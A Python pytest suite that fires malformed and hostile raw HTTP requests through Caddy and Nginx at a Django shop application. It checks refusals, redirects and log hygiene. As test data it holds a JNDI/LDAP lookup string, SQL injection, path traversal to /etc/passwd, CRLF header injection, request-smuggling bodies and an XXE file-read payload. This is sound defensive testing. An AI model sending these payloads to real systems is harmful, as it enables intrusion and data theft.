"""Hosts: hostile Host, X-Forwarded-*, path, cookie and body inputs behind both proxies.

Each input gets a 4xx, a closed connection or a redirect to HTTPS, or the proxy replaces
it. It leaves at most two lines in the application's log, below 1,000 characters and
without a traceback. Inputs are sent as raw bytes, because no client library sends them.
Each one has its own address.
"""

import json
import re
from collections import Counter
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import Any
from urllib.parse import urljoin

import pytest

from tests.drill import both_interfaces, only_asgi, only_wsgi
from tests.services import Caddy, Nginx, Proxy

SHORT = 1000  # characters of a line
MOST = 2  # lines of a request: the reason of a refusal, and the access log
FORM = "application/x-www-form-urlencoded"
ME = "/api/v1/users/me/"
SITE = "https://shop.test/"
CLOSED = 0  # without an answer
REFUSED = (CLOSED, *range(400, 500))
SENT_ON = (301, 308)
ISSUE_TOKEN = """
from apps.api.models import AccessToken
from apps.users.models import User
token = AccessToken(user=User.objects.get(username="root"), name="hostile")
token.renew()
token.save()
print(token.text)
"""


@dataclass
class Hostile:
    """Bytes to send, and the expected statuses."""

    name: str
    raw: bytes
    statuses: tuple[int, ...] = REFUSED
    plain: bool = False  # without TLS


@dataclass
class Answer:
    status: int
    headers: dict[str, str]
    body: str


@both_interfaces
def test_hostile_inputs_are_refused(project, env, start, report, tmp_path):
    issued = project.manage("shell", "--no-imports", "-c", ISSUE_TOKEN, env=env)
    instance = start(project, env)
    token = issued.stdout.strip()
    # With a token that lets nobody in, JSON would be refused unread.
    assert instance.get(ME, Authorization=f"Bearer {token}").status == 200
    with (
        Caddy(tmp_path / "caddy", project.path, instance.port) as caddy,
        Nginx(tmp_path / "nginx", project.path, instance.port) as nginx,
    ):
        inputs = [*hostile_inputs(token)]
        report(drill(instance, [caddy, nginx], inputs))


@only_wsgi
def test_any_host_is_noticed(project, env, start, break_promise, tmp_path):
    broken = break_promise(
        "config/settings/production.py",
        'ALLOWED_HOSTS = env.list("DJANGO_ALLOWED_HOSTS")',
        'ALLOWED_HOSTS = ["shop.test", "evil.test"]',
    )
    instance = start(broken, env)
    problem = r"host evil\.test through Nginx: status 200"
    with (
        Nginx(tmp_path / "nginx", project.path, instance.port) as nginx,
        pytest.raises(AssertionError, match=problem),
    ):
        drill(instance, [nginx], [*hosts()])


@only_wsgi
def test_addresses_that_clients_make_up_are_noticed(
    project, env, start, break_promise, tmp_path
):
    broken = break_promise(
        "deploy/nginx/nginx.conf",
        "X-Forwarded-For $remote_addr",
        "X-Forwarded-For $proxy_add_x_forwarded_for",
    )
    instance = start(project, env)
    with (
        Nginx(tmp_path / "nginx", broken.path, instance.port) as nginx,
        pytest.raises(AssertionError, match=r"Nginx passes on .*6\.6\.6\.6"),
    ):
        drill(instance, [nginx], [*forwarded()])


@only_wsgi
def test_unreadable_content_types_are_noticed(
    project, env, start, break_promise, tmp_path
):
    broken = break_promise("deploy/caddy/Caddyfile", "error @unreadable 415", "")
    instance = start(project, env)
    problem = "charset in an unknown encoding through Caddy: status 500"
    with (
        Caddy(tmp_path / "caddy", broken.path, instance.port) as caddy,
        pytest.raises(AssertionError, match=problem),
    ):
        drill(instance, [caddy], [*forms()])


@only_asgi
def test_long_lines_are_noticed(project, env, start, break_promise, tmp_path):
    broken = break_promise("core/logs.py", "LONGEST = 160", "LONGEST = 10_000")
    instance = start(broken, env)
    with (
        Caddy(tmp_path / "caddy", project.path, instance.port) as caddy,
        pytest.raises(AssertionError, match="long path through Caddy: a line of"),
    ):
        drill(instance, [caddy], [*paths()])


def drill(instance, proxies: list[Proxy], inputs: list[Hostile]) -> str:
    seen = len(instance.process.log)
    with ThreadPoolExecutor(len(proxies)) as pool:
        networks = [f"127.{number + 1}" for number in range(len(proxies))]
        problems = [
            problem
            for found in pool.map(send_all, proxies, networks, [inputs] * len(proxies))
            for problem in found
        ]
    log = instance.process.log[seen:]
    lines = [line for line in log.splitlines() if '"core.health"' not in line]
    names = {
        address(network, number): f"{hostile.name} through {proxy.name}"
        for proxy, network in zip(proxies, networks, strict=True)
        for number, hostile in enumerate(inputs)
    }
    problems += look_at(lines, names)
    assert not problems, "\n".join(problems)
    through = " and ".join(proxy.name for proxy in proxies)
    most = f"{MOST} lines each of {max(map(len, lines))} characters at most"
    return f"{len(inputs)} inputs through {through}: refused or void; {most}"


def send_all(proxy: Proxy, network: str, inputs: list[Hostile]) -> list[str]:
    """Send all inputs to a proxy; return what is wrong with the answers."""
    problems = []
    for number, hostile in enumerate(inputs):
        answer = ask(proxy, hostile.raw, address(network, number), plain=hostile.plain)
        name = f"{hostile.name} through {proxy.name}"
        location = answer.headers.get("location", "")
        stays = urljoin(SITE, location).startswith(SITE)
        if answer.status not in hostile.statuses or not stays:
            problems.append(f"{name}: status {answer.status} {location}".rstrip())
        if answer.status == 200 and "evil" in answer.body:
            problems.append(f"{name}: a page that repeats it")
    answer = ask(proxy, request("POST", "/drill/heard/", b"a=b", **FORGED))
    heard = {name.lower(): value for name, value in json.loads(answer.body).items()}
    said = {name: heard.get(name) for name in PROXY_HEADERS}
    if said != PROXY_HEADERS:
        problems.append(f"{proxy.name} passes on {said}")
    forged = {name.lower() for name in FORGED} & heard.keys()
    problems += [
        f"{proxy.name} passes on {name}" for name in forged if "evil" in heard[name]
    ]
    return problems


def look_at(lines: list[str], names: dict[str, str]) -> Iterator[str]:
    """Yield what is wrong with the log; ``names`` has the input of each address."""
    entries: list[dict[str, Any]] = []
    for line in lines:
        try:
            entries.append(json.loads(line) | {"length": len(line)})
        except ValueError:
            yield f"a line that is not JSON: {line[:200]}"
    addresses = {
        entry["request_id"]: entry["remote_addr"]
        for entry in entries
        if "remote_addr" in entry
    }
    yield from (
        f"a request comes from {address}"
        for address in {*addresses.values()} - {*names, "127.0.0.1"}
    )
    counted = Counter(entry.get("request_id") for entry in entries)
    for entry in entries:
        request_id = entry.get("request_id")
        name = names.get(addresses.get(request_id, ""), "")
        length, message = entry["length"], entry["message"][:200]
        if length >= SHORT:
            yield f"{name}: a line of {length} characters: {message}"
        is_error = entry["level"] == "CRITICAL" or entry.get("status", 0) >= 500
        if is_error or "exc_info" in entry:
            yield f"{name}: an alarming line: {entry}"
        if request_id and counted[request_id] > MOST:
            yield f"{name}: {counted[request_id]} lines, such as {message}"
        if request_id and not re.fullmatch(r"[0-9a-f-]{32,36}", request_id):
            yield f"{name}: request id {request_id}"
    # The server's own lines, for bytes that are not a request.
    if counted[None] > len(names):
        yield f"{counted[None]} lines without a request"


def address(network: str, number: int) -> str:
    return f"{network}.{number // 250}.{number % 250 + 1}"


def ask(
    proxy: Proxy, raw: bytes, source: str = "127.0.0.1", *, plain: bool = False
) -> Answer:
    """Send bytes from a loopback address; return the answer."""
    answer = b""
    with proxy.connect(plain=plain, source=source, timeout=10) as connection:
        try:
            connection.sendall(raw)
            while piece := connection.recv(65536):
                answer += piece
                if is_whole(answer):
                    break
        except TimeoutError:
            return Answer(-1, {}, "no answer")
        except OSError:
            pass
    head, _, body = answer.partition(b"\r\n\r\n")
    first, *fields = head.decode("latin-1").split("\r\n")
    status = re.match(r"HTTP/1\.[01] (\d{3})", first)
    pairs = (field.partition(":") for field in fields)
    headers = {name.lower(): value.strip() for name, _, value in pairs}
    return Answer(int(status[1]) if status else CLOSED, headers, body.decode("latin-1"))


def is_whole(answer: bytes) -> bool:
    """Tell whether the answer has arrived with its whole body."""
    head, end, body = answer.partition(b"\r\n\r\n")
    length = re.search(rb"(?im)^content-length: (\d+)", head)
    return bool(end) and len(body) >= (int(length[1]) if length else 0)


# What the proxies tell the application about these requests.
PROXY_HEADERS = {
    "host": "shop.test",
    "x-forwarded-for": "127.0.0.1",
    "x-forwarded-host": "shop.test",
    "x-forwarded-proto": "https",
}
# Headers that only a proxy may set, or nobody.
FORGED = {
    "X_Forwarded_For": "6.6.6.6, evil",
    "X_Forwarded_Host": "evil.test",
    "X_Forwarded_Proto": "evil",
    "X_Request_ID": "evil",
    "Sentry_Trace": "evil",
    "Baggage": "evil",
    "Connection": "Upgrade, evil",
    "Upgrade": "evil",
}


def request(
    method: str = "GET",
    target: str | bytes = "/nowhere/",
    body: bytes = b"",
    *,
    host: str | bytes | None = "shop.test",
    **headers: str | bytes,
) -> bytes:
    fields: list[tuple[str, str | bytes]] = []
    if host is not None:
        fields.append(("Host", host))
    if body and "Transfer_Encoding" not in headers:
        fields.append(("Content-Length", str(len(body))))
    fields += ((name.replace("_", "-"), value) for name, value in headers.items())
    lines = [to_bytes(method) + b" " + to_bytes(target) + b" HTTP/1.1"]
    lines += [to_bytes(name) + b": " + to_bytes(value) for name, value in fields]
    return b"\r\n".join([*lines, b"", body])


def log_in(**headers: str | bytes) -> bytes:
    return request("POST", "/admin/login/", b"a=b", **headers)


def to_bytes(text: str | bytes) -> bytes:
    return text if isinstance(text, bytes) else text.encode()


def hostile_inputs(token: str) -> Iterator[Hostile]:
    yield from hosts()
    yield from forwarded()
    yield from paths()
    yield from cookies()
    yield from headers()
    yield from methods()
    yield from framing()
    yield from forms()
    yield from json_bodies(token)


def hosts() -> Iterator[Hostile]:
    names = """
        evil.test shop.test.evil.test evil.test/shop.test evil.test#shop.test
        evil.test?shop.test shop.test@evil.test shop.test,evil.test shop.test;evil.test
        .shop.test .. * localhost 127.0.0.1 [::1] [::1 [shop.test] 2130706433 0x7f.1
        169.254.169.254 xn--shp-sna.test shöp.test <script>alert(1)</script> {{7*7}}
        ${jndi:ldap://evil.test/a}
    """.split()
    for host in (
        *names,
        *("", "shop.test evil.test", "shop.test\tevil.test"),
        *("'; DROP TABLE users_user; --", "a" * 300, "a." * 2000),
        *(b"\xff\xfe", b"shop.test\x01"),
    ):
        yield Hostile(f"host {host[:40]!s}", request("GET", "/", host=host))
    # nginx passes on the name only.
    for host in ("shop.test:80@evil.test", "shop.test:port", "shop.test:-1"):
        yield Hostile(f"host {host}", request("GET", "/", host=host), (*REFUSED, 200))
    yield Hostile("no host", request("GET", "/", host=None))
    yield Hostile("two hosts", request("GET", "/", Host="evil.test"))
    absolute = request("GET", "http://evil.test/nowhere/", host="evil.test")
    yield Hostile("host in the target", absolute)


def forwarded() -> Iterator[Hostile]:
    addresses = """
        evil , ,,,,, 999.999.999.999 1.2.3.4:80 [2001:db8::1] 2001:db8::1%eth0
        ::ffff:1.2.3.4 unknown _hidden <script> 6.6.6.6
    """.split()
    for client in (
        *addresses,
        *("", "1.2.3.4, evil", "evil, 1.2.3.4", "' OR 1=1 --", "1.2.3.4," * 800),
        b"\xff\xfe",
    ):
        yield Hostile(f"client {client[:40]!s}", request(X_Forwarded_For=client))
        form = b"username=root&password=guess"
        headers = {"X_Forwarded_For": client, "Content_Type": FORM}
        raw = request("POST", "/admin/login/", form, **headers)
        yield Hostile(f"log-in by {client[:40]!s}", raw)
    protos = "http HTTPS http,https ftp javascript:".split()
    for proto in (*protos, "", "a" * 2000, b"\xff"):
        raw = request("GET", "/", X_Forwarded_Proto=proto)
        yield Hostile(f"proto {proto[:40]!s}", raw, (200,))
    yield Hostile("forwarded host", request(X_Forwarded_Host="evil.test"))
    for name, raw in {
        "proto without TLS": request(X_Forwarded_Proto="https"),
        "forwarded host, redirect": request(X_Forwarded_Host="evil.test"),
        "forwarded port": request(X_Forwarded_Port="evil"),
        "Forwarded": request(Forwarded='for="[::1";host=evil.test;proto=https'),
    }.items():
        yield Hostile(name, raw, SENT_ON, plain=True)
    original = request(X_Original_URL="/admin/", X_Rewrite_URL="/admin/")
    yield Hostile("original url", original)


def paths() -> Iterator[Hostile]:
    strange = """
        /%00 /%0a{%22level%22:%22CRITICAL%22} /%0d%0aSet-Cookie:%20a=b /%e2%80%a8%c2%85
        /%ff%fe /%c0%ae%c0%ae/ /%zz /% /.. /../../etc/passwd /static/../manage.py
        /static/..%2f..%2fmanage.py /static/%2e%2e/%2e%2e/etc/passwd /static/%00.css
        /static//etc/passwd /.env /.git/config /wp-login.php //evil.test/ //evil.test
        /%2f%2fevil.test/ /\\evil.test /nowhere/?q=%00 /nowhere/;jsessionid=1
        /<script>alert(1)</script> /{{7*7}} /'%20OR%201=1-- nowhere * ?
    """.split()
    for path in (
        *strange,
        *("/" + "%01" * 1000, "/" + "%22" * 1000, "/" + "%5c" * 1000),
        *("/" + "é" * 300, "/" + "/" * 3000),
    ):
        yield Hostile(f"path {path[:40]}", request("GET", path))
    yield Hostile("long path", request("GET", "/" + "a" * 3500))
    yield Hostile("longer path", request("GET", "/" + "a" * 30_000))
    yield Hostile("long query", request("GET", "/nowhere/?" + "a=b&" * 900))
    yield Hostile("raw bytes in the path", request("GET", b"/\xff\xfe\xc3\x28"))
    yield Hostile("control characters in the path", request("GET", b"/a\x01b\x7f"))
    yield Hostile("null byte in the path", request("GET", b"/a\x00b"))
    yield Hostile("space in the path", request("GET", "/a b c"))
    yield Hostile("line feed in the path", request("GET", b"/a\nb"))
    redirected = """
        //evil.test/ /%0d%0aLocation:%20https://evil.test/ /%5cevil.test /@evil.test
    """.split()
    for path in redirected:
        yield Hostile(f"redirect of {path}", request("GET", path), SENT_ON, plain=True)
    appended = request("GET", "/api/docs?next=//evil.test")
    yield Hostile("slash appended", appended, SENT_ON)


def cookies() -> Iterator[Hostile]:
    for cookie in (
        "__Host-sessionid=" + "a" * 32,
        "__Host-sessionid=" + "a" * 3000,
        '__Host-sessionid="' + "\\000" * 8 + '"',
        '__Host-sessionid="aaaaaaaa\\012aaaaaaaa"',
        "__Host-sessionid=../../../../etc/passwd",
        "__Host-sessionid='; DROP TABLE django_session; --",
        b"__Host-sessionid=" + b"\xff\xfe" * 4,
        "__Host-sessionid=" + "é" * 40,
        "__Host-csrftoken=" + "a" * 32,
        "=",
        ";;;;",
        "a" * 4000,
        "a=b; " * 800,
        '__Host-csrftoken="\\000"; __Host-sessionid="' + "\\377" * 8 + '"',
        "messages=W1siX19qc29uX21lc3NhZ2UiXV0; __Host-language=../../../etc",
    ):
        yield Hostile(f"cookie {cookie[:60]!s}", request("GET", ME, Cookie=cookie))
        yield Hostile(f"log-in with {cookie[:60]!s}", log_in(Cookie=cookie))


def headers() -> Iterator[Hostile]:
    yield Hostile("null byte in a header", request(X_Test=b"a\x00b"))
    yield Hostile("line feed in a header", request(X_Test=b"a\nX-Forwarded-For: evil"))
    yield Hostile("carriage return in a header", request(X_Test=b"a\rb"))
    yield Hostile("folded header", request(X_Test=b"a\r\n b"))
    yield Hostile("header without a colon", request()[:-2] + b"evil\r\n\r\n")
    yield Hostile("header without a name", request()[:-2] + b": evil\r\n\r\n")
    yield Hostile("space before the colon", request()[:-2] + b"X-Test : evil\r\n\r\n")
    yield Hostile("underscores", request()[:-2] + b"X_Forwarded_For: 6.6.6.6\r\n\r\n")
    yield Hostile("request id", request(X_Request_ID=b"a b\x7f\xff"))
    yield Hostile("long request id", request(X_Request_ID="a" * 128))
    yield Hostile("longer request id", request(X_Request_ID="a" * 5000))
    agent = '"}\\n{"level": "CRITICAL"} \\u0000'
    yield Hostile("user agent", request(User_Agent=agent))
    yield Hostile("long user agent", request(User_Agent='"' * 4000))
    yield Hostile("user agent of bytes", request(User_Agent=b"\xff" * 500))
    yield Hostile("referer", log_in(Referer="https://[evil"))
    yield Hostile("origin", log_in(Origin="https://[evil"))
    yield Hostile("long origin", log_in(Origin="https://" + "a" * 4000))
    yield Hostile("API origin", request("GET", ME, Origin="https://[evil"))
    yield Hostile("range", request(Range="bytes=9999999999999999999999-0"))
    date = "Fri, 99 Xxx 99999 99:99:99 GMT"
    yield Hostile("date", request(If_Modified_Since=date, If_None_Match='W/"'))
    yield Hostile("language", request(Accept_Language="a" * 3000))
    yield Hostile("accept", request("GET", ME, Accept="\x0b;q=evil"))
    for name, value in {
        "authorization": "Bearer " + "a" * 3000,
        "authorization of bytes": b"Bearer \xff\xfe",
        "authorization without a token": "Bearer",
        "basic authorization": "Basic !!!",
    }.items():
        yield Hostile(name, request("GET", ME, Authorization=value))
    websocket = {"Upgrade": "websocket", "Sec_WebSocket_Key": "a"}
    yield Hostile("upgrade", request(Connection="Upgrade", **websocket))
    h2c = {"Upgrade": "h2c", "HTTP2_Settings": "a"}
    upgrade = request(Connection="Upgrade, HTTP2-Settings", **h2c)
    yield Hostile("HTTP/2 upgrade", upgrade)


def methods() -> Iterator[Hostile]:
    # h11 reads "get" as GET.
    yield Hostile("method get", request("get", "/"), (*REFUSED, 200))
    names = "FOO PROPFIND TRACE CONNECT <script> É".split()
    for method in (*names, "A" * 300, "G\0ET", "GET\t"):
        yield Hostile(f"method {method[:40]}", request(method, "/"))
    override = {"X_HTTP_Method_Override": "DELETE"}
    yield Hostile("override", request("POST", "/", b"_method=DELETE", **override))
    for version in (*b"HTTP/9.9 HTTP/1.1.1 HTTP/2.0 HTTPS/1.1 evil".split(), b""):
        raw = request().replace(b"HTTP/1.1", version, 1)
        yield Hostile(f"version {version.decode()}", raw, (*REFUSED, 505))
    yield Hostile("nothing but lines", b"\r\n" * 50 + b"evil\r\n\r\n")
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
    yield Hostile("TLS", hello + b"\x00" * 64 + b"\r\n\r\n")
    yield Hostile("HTTP/2 preface", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")
    yield Hostile("PROXY protocol", b"PROXY TCP4 6.6.6.6 6.6.6.6 1 1\r\n" + request())


def framing() -> Iterator[Hostile]:
    target = "/drill/upload/"
    lengths = "evil -1 +5 0x5 5.0 \N{ARABIC-INDIC DIGIT FIVE} 1e3".split()
    for length in (*lengths, "5 5", "5, 6", "1" * 40):
        raw = request("POST", target, Content_Length=length)
        yield Hostile(f"length {length}", raw)
    yield Hostile("two lengths", request("POST", target, b"hello", Content_Length="6"))
    for encoding in (
        *("evil", "chunked, chunked", "chunked, evil", "xchunked", "\x0bchunked"),
        *("chunked;q=1", "identity, chunked, identity"),
    ):
        raw = request("POST", target, b"0\r\n\r\n", Transfer_Encoding=encoding)
        # RFC 9112 (section 6.1) wants 501 for an unknown encoding.
        yield Hostile(f"encoding {encoding}", raw, (*REFUSED, 501))
    smuggled = b"0\r\n\r\nGET /evil HTTP/1.1\r\n\r\n"
    both = {"Transfer_Encoding": "chunked", "Content_Length": "5"}
    yield Hostile("length and encoding", request("POST", target, smuggled, **both))
    for chunk in (
        *(b"evil\r\n", b"-5\r\nhello\r\n", b"0x5\r\nhello\r\n"),
        *(b"5\nhello\n0\n\n", b"fffffffffffffffff\r\n", b"5\r\nhelloevil\r\n"),
    ):
        raw = request("POST", target, chunk, Transfer_Encoding="chunked")
        yield Hostile(f"chunk {chunk!r}", raw)


def forms() -> Iterator[Hostile]:
    def upload(content_type: str | bytes, body: bytes) -> bytes:
        return request("POST", "/drill/upload/", body, Content_Type=content_type)

    multipart = "multipart/form-data; boundary="
    disposition = b'--b\r\nContent-Disposition: form-data; name="image"; '
    body = b"Content-Type: image/png\r\n\r\n%s\r\n--b--\r\n"
    part = disposition + b'filename="%s"\r\n' + body
    encoded = disposition + b"filename*=evil''%%ff%s\r\n" + body
    file = part % (b"a.png", b"a")
    base64 = b"\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    not_base64 = (part % (b"a.png", b"a*b")).replace(b"\r\n\r\n", base64, 1)
    field = disposition + b"\r\n\r\n%s\r\n--b--\r\n"
    nested = file.replace(b"image/png", b"multipart/mixed; boundary=b")
    of_charset = file.replace(b"image/png", b"image/png; charset=evil")
    for name, content_type, body in (
        ("multipart without a boundary", "multipart/form-data", file),
        ("empty boundary", multipart, file),
        ("long boundary", multipart + "b" * 1000, file),
        ("boundary of bytes", b"multipart/form-data; boundary=\xff", file),
        ("wrong boundary", f"{multipart}c", file),
        ("end is missing", f"{multipart}b", file[:-10]),
        ("nothing but a boundary", f"{multipart}b", b"--b"),
        ("empty multipart", f"{multipart}b", b"\r\n"),
        ("null bytes", f"{multipart}b", b"\0" * 5000),
        ("file name in an unknown encoding", f"{multipart}b", encoded % (b"", b"a")),
        ("bad base64", f"{multipart}b", not_base64),
        ("unknown charset", f"{multipart}b; charset=evil", file),
        ("charset of bytes", f"{multipart}b; charset=hex", file),
        ("slow charset", f"{multipart}b; charset=punycode", field % (b"a" * 2**20)),
        ("charset of a part", f"{multipart}b", of_charset),
        ("charset in an unknown encoding", "text/plain; charset*=evil''%ff", b"a"),
        ("multipart in multipart", f"{multipart}b", nested),
        ("too many fields", FORM, b"a=b&" * 1100),
        ("too many files", f"{multipart}b", file[:-7] * 25 + b"--b--\r\n"),
        ("too large a form", FORM, b"a=" + b"b" * (3 * 1024 * 1024)),
        ("form in an unknown charset", f"{FORM}; charset=evil", b"a=%ff"),
        ("form in UTF-16", f"{FORM}; charset=utf-16", b"a=%ff"),
        ("form of bytes", FORM, b"\xff\xfe\0=\0&%zz=%"),
        ("content type", ";;;=;", b"a"),
    ):
        yield Hostile(name, upload(content_type, body))
    boundary = "multipart/form-data; boundary*=evil''%ff"
    yield Hostile("boundary in an unknown encoding", upload(boundary, b"a"))
    names = b"../../etc/passwd a\0.png \xff\xfe.png . a.png\\ con.png".split(b" ")
    for name in (*names, b"a" * 5000 + b".png", b""):
        raw = upload(f"{multipart}b", part % (name, b"\x89PNG evil"))
        yield Hostile(f"file name {name[:20]!r}", raw)
    raw = request("POST", "/drill/upload/", b"a", Content_Encoding="evil")
    yield Hostile("content encoding", raw)
    for name, form in {
        "null bytes": b"username=%00&password=%00",
        "surrogates": b"username=%ed%a0%80&password=a",
    }.items():
        raw = request("POST", "/admin/login/", form, Content_Type=FORM)
        yield Hostile(f"log-in with {name}", raw)


def json_bodies(token: str) -> Iterator[Hostile]:
    bearer = {"Authorization": f"Bearer {token}"}
    for body in (
        *b'{ } [] null evil "evil" NaN'.split(),
        b'{"first_name": NaN}',
        b'{"first_name": Infinity}',
        b'{"first_name": null}',
        b'{"first_name": {}}',
        b'{"first_name": []}',
        b'{"first_name": "\\u0000"}',
        b'{"first_name": "\\ud800"}',
        b'{"first_name": "' + b"a" * 5000 + b'"}',
        b'{"first_name": "\xff\xfe"}',
        b"\xff\xfe\x00",
        "{}".encode("utf-16")[:-1],
        b"\xef\xbb\xbf{",
        b"\0",
        b"[" * 100_000,
        b'{"a":' * 100_000,
        b'{"first_name": ' + b"1" * 5000 + b"}",
        b'{"first_name": "a", "first_name": {}}',
        b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    ):
        raw = request("PATCH", ME, body, Content_Type="application/json", **bearer)
        yield Hostile(f"JSON {body[:40]!r}", raw)
    form = request("PATCH", ME, b"first_name=a", Content_Type=FORM, **bearer)
    yield Hostile("form for the API", form)
    users = "/api/v1/users/"
    ids = (f"{users}?page=evil", f"{users}?page=-1", f"{users}{'9' * 400}/")
    for target in (*ids, "/api/%00/"):
        yield Hostile(f"API {target[:40]}", request("GET", target, **bearer))
